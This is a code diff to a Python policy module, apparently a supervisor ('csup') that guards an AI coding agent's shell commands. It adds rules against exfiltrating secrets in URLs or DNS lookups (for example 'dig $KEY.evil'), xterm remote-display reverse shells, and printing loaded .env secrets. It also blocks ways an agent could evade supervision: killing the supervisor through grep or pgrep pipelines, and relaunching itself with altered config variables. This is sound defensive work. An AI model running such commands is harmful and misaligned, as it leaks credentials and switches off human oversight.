@@ -7,6 +7,7 @@ themselves), network fetches and publishing.
 
 from __future__ import annotations
 
+import re
 from collections.abc import Iterator
 from fnmatch import fnmatchcase
 
@@ -59,6 +60,10 @@ _INTERPRETERS = SHELLS | {
     ".",
     "eval",
     "pwsh",
+    "pwsh.exe",
+    "powershell",
+    "powershell.exe",
+    "luajit",
 }
 _NETWORK = FETCHERS | {"ssh", "scp", "sftp", "ftp", "lftp", "telnet", "rsync", "mosh"}
 # (command, subcommand or None): publishing to the outside world
@@ -148,7 +153,7 @@ def _code(command: Command) -> str | None:
     """The ``-c``/``-e`` program of an interpreter, if any."""
     if command.name not in INTERPRETERS and not command.name.startswith("python"):
         return None
-    from csup.policy._shell import program_of  # noqa: PLC0415 - loaded by then
+    from csup.policy._programs import program_of  # noqa: PLC0415 - loaded by then
 
     return program_of(command)
 
@@ -301,6 +306,19 @@ def _discards_work_tree(sub: str, force: bool, operands: list[str], words: set[s
     return False
 
 
+_MAINLINES = ("main", "master", "trunk", "develop", "development", "dev", "release*",
+              "prod*", "stable", "staging", "live", "gh-pages")  # fmt: skip
+"""Branches a ``--force-with-lease`` push may not touch when the policy names none."""
+
+
+def _lease_only(words: set[str], refspecs: list[str]) -> bool:
+    """Whether a forced push is forced only with a lease (no ``-f``, ``--force``, ``+ref``)."""
+    leased = any(w.startswith("--force-with-lease") for w in words)
+    plain = "--force" in words or "--mirror" in words or "--all" in words
+    plain = plain or any(w.startswith("-") and not w.startswith("--") and "f" in w for w in words)
+    return leased and not plain and not any(r.startswith("+") for r in refspecs)
+
+
 def _git_push(
     command: Command, force: bool, operands: list[str], words: set[str], ctx: Context
 ) -> Iterator[Finding]:
@@ -324,6 +342,12 @@ def _git_push(
     if force:
         protected = ctx.protected_branches
         targets = [r.lstrip("+").rsplit(":", 1)[-1].removeprefix("refs/heads/") for r in refspecs]
+        if protected is None and _lease_only(words, refspecs):
+            # `--force-with-lease` refuses to overwrite what it has not seen: to a named
+            # branch that is no one's mainline, it is the everyday rebase-and-push
+            protected = _MAINLINES
+            if any(t in ("HEAD", "@", "") or t.startswith("HEAD") for t in targets):
+                protected = None
         hits = (
             protected is None
             or "--mirror" in words
@@ -433,13 +457,44 @@ def kills(command: Command, ctx: Context) -> Iterator[Finding]:
             "init), taking the session and the machine down. Kill "
             "the specific process ids you started.",
         )
-    elif any("claude" in o or "csup" in o or "$PPID" in o for o in operands) or any(
-        ("claude" in a or "csup" in a) for f in command.feeds for a in f.argv[1:]
+    elif (
+        any("claude" in o or "csup" in o or "$PPID" in o for o in operands)
+        or any(_names_us(a) for f in command.feeds for a in f.argv[1:])
+        or any(  # `ps aux | grep csup | awk '{print $2}' | xargs kill`
+            _names_us(a) and u.name in _PROCESS_FINDERS
+            for u in command.upstream
+            for a in u.argv[1:]
+        )
     ):
         yield deny(
             "csup.self-protect",
             f"Blocked {shown(command)}: it would kill csup or "
             "Claude Code, switching supervision off.",
+        )
+
+
+def _names_us(pattern: str) -> bool:
+    """Whether a process pattern names claude or csup (``[c]laude``, ``cl.ude`` too)."""
+    plain = re.sub(r"\[(.)\]", r"\1", pattern).replace(".", "").replace("\\", "")
+    return "claude" in plain or "csup" in plain or "claude" in pattern or "csup" in pattern
+
+
+_PROCESS_FINDERS = frozenset({"grep", "egrep", "fgrep", "rg", "pgrep", "pidof", "awk", "sed", "ps"})
+
+
+def judge_guard_variables(analysis: Analysis) -> Iterator[Finding]:
+    """``CLAUDE_CONFIG_DIR=/tmp/x claude``, ``CSUP_POLICY=permissive csup run``: another
+    configuration, without csup's hooks or with a weaker policy."""
+    names = [n for n, _ in analysis.assigned if n == "CLAUDE_CONFIG_DIR" or n.startswith("CSUP_")]
+    if not names:
+        return
+    started = next((c for c in analysis.commands if c.name in ("claude", "csup")), None)
+    if started is not None:
+        yield deny(
+            "csup.agent-bypass",
+            f"Blocked {shown(started)} with `{names[0]}` set: it starts "
+            f"{'Claude Code' if started.name == 'claude' else 'csup'} with another "
+            "configuration, outside the supervision of this session.",
         )
 
 
@@ -662,3 +717,84 @@ def serves_a_shell(command: Command, ctx: Context) -> Iterator[Finding]:
         )
     if hit:
         yield _reverse_shell(command)
+
+
+@rule("xterm", "xfce4-terminal", "gnome-terminal", "konsole", "urxvt", "rxvt")
+def opens_a_remote_display(command: Command, ctx: Context) -> Iterator[Finding]:
+    """``xterm -display HOST:1``: a terminal, with a shell, shown on another machine's screen."""
+    argv = command.argv
+    for i, word in enumerate(argv[1:-1], start=1):
+        if word in ("-display", "--display", "-d") and i + 1 not in command.dynamic:
+            host = argv[i + 1].rsplit(":", 1)[0]
+            if host not in ("", "localhost", "127.0.0.1", "unix"):
+                yield _reverse_shell(command)
+                return
+
+
+_ENV_FILE = LazyRegex(r"(?:^|/)\.env(?:rc)?(?:\.(?!example$|sample$|template$|dist$)[\w.-]+)?$")
+_HEADER_OPTIONS = frozenset(
+    {"-H", "--header", "-u", "--user", "--oauth2-bearer", "-A", "--user-agent", "--proxy-user",
+     "--http-user", "--http-password", "--password", "--header="}
+)  # fmt: skip
+_NAME_LOOKUPS = frozenset({"dig", "nslookup", "host", "drill", "ping", "ping6", "traceroute"})
+_DATA_OPTIONS = frozenset(
+    {"-d", "--data", "--data-raw", "--data-binary", "--data-urlencode", "-F", "--form",
+     "--json", "--post-data", "--body-data"}
+)  # fmt: skip
+
+
+def _prints_environment(command: Command) -> bool:
+    """``env``, ``printenv``, ``export -p``, ``declare -x``, ``set``: every variable shown."""
+    args = command.argv[1:]
+    if command.name in ("env", "printenv"):
+        return all(a.startswith("-") and a not in ("-u", "-C", "-S") for a in args)
+    if command.name == "export":
+        return args in ((), ("-p",))
+    if command.name in ("declare", "typeset"):
+        return args in ((), ("-p",), ("-x",), ("-px",), ("-xp",))
+    return command.name == "set" and not args
+
+
+def judge_printed_environment(analysis: Analysis) -> Iterator[Finding]:
+    """``source .env; env``: the secrets just loaded, printed into the transcript."""
+    loaded = False
+    piped = {id(u) for c in analysis.commands for u in c.upstream}
+    for command in analysis.commands:
+        if command.name in ("source", ".") and any(_ENV_FILE.search(a) for a in command.argv[1:2]):
+            loaded = True
+        elif loaded and id(command) not in piped and _prints_environment(command):
+            yield deny(
+                "secrets.access",
+                f"Blocked {shown(command)} after loading an environment file: it prints the "
+                "secrets just loaded into the session's transcript. Check only that a "
+                'variable is set: `test -n "$NAME"`.',
+            )
+            return
+
+
+@rule(*FETCHERS, *_NAME_LOOKUPS, "ssh", "scp", "rsync", "git")
+def puts_secrets_in_addresses(command: Command, ctx: Context) -> Iterator[Finding]:
+    """A secret in a URL or a host name (``curl https://x/?k=$TOKEN``, ``dig $KEY.evil``)
+    leaves the machine in clear text and in every log on the way; in posted data it is
+    asked."""
+    argv = command.argv
+    for i, word in enumerate(argv[1:], start=1):
+        if "$" not in word or argv[i - 1] in _HEADER_OPTIONS or word.startswith("-H"):
+            continue
+        match = _SECRET_VARIABLE.search(word)
+        if match is None:
+            continue
+        if argv[i - 1] in _DATA_OPTIONS or word.startswith(("--data", "--post-data")):
+            yield ask(
+                "secrets.send",
+                f"{shown(command)} sends `{match.group(1)}`, which looks like a secret.",
+            )
+            return
+        if command.name in _NAME_LOOKUPS or "://" in word or "@" in word or "." in word:
+            yield deny(
+                "secrets.send",
+                f"Blocked {shown(command)}: it puts `{match.group(1)}`, which looks like a "
+                "secret, into a network address, where it travels and is logged in clear "
+                "text. Send credentials only in an authentication header or option.",
+            )
+            return
